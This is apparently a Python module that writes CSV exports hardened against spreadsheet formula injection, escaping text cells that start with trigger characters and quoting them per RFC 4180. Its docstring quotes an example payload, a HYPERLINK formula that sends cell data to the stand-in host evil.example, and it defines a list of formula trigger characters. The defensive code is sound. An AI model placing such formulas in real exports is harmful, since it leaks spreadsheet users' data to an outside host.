"""Every CSV we write, written one way: numbers as numbers, text that a spreadsheet cannot run.

A spreadsheet opening a CSV reads a cell that begins with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?"&A1, "Click")` sends the sheet away; `@SUM(…)` and
`+1+1` are formulas too), and one that begins with a tab or a carriage return may be read as
one after the spreadsheet trims it. Item, category and staff names come from people, so,
following OWASP's CSV Injection guidance, a text cell that begins with one of those characters
(or with U+0000, as OWASP ASVS 5.0 adds) is prefixed with a single quote, which spreadsheets
show as text and do not run; and every text cell is quoted, with its own double quotes doubled
(RFC 4180).

Numbers our code produced (ints, Decimals: money in minor units, counts, hours) are written
bare, so `-450`, a refund, stays a number an accountant's spreadsheet adds up; only text is
escaped. A cell is text or a number by its Python type, never by what the text looks like: a
name `-2+3` is text, and is escaped. Callers pass numbers as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal
from uuid import UUID

# The characters a spreadsheet reads a cell as a formula by, at its start.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")

Cell = str | int | float | Decimal | UUID | date | None


def text_cell(text: str) -> str:
    """Text as a spreadsheet shows it and never runs it."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell(value: Cell) -> str | int | float | Decimal:
    """One cell: a number stays a number; anything else becomes escaped text."""
    if isinstance(value, bool):
        # A bool is an int to Python, and would be written True: it is text.
        return text_cell(str(value).lower())
    if isinstance(value, int | float | Decimal):
        return value
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    return text_cell(str(value))


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """RFC 4180: comma-separated, CRLF line ends, UTF-8, a header row; text quoted and
    escaped, numbers bare."""
    return write_rows([header, *rows])


def write_rows(rows: Iterable[Sequence[Cell]]) -> bytes:
    """Rows as `write_csv` writes them, whatever they are (a report's header block, then its
    table: services/reports/exports.py)."""
    buffer = io.StringIO()
    # QUOTE_NONNUMERIC quotes every cell that is not a number: `cell` has made sure that
    # means every text cell, and only those.
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode()
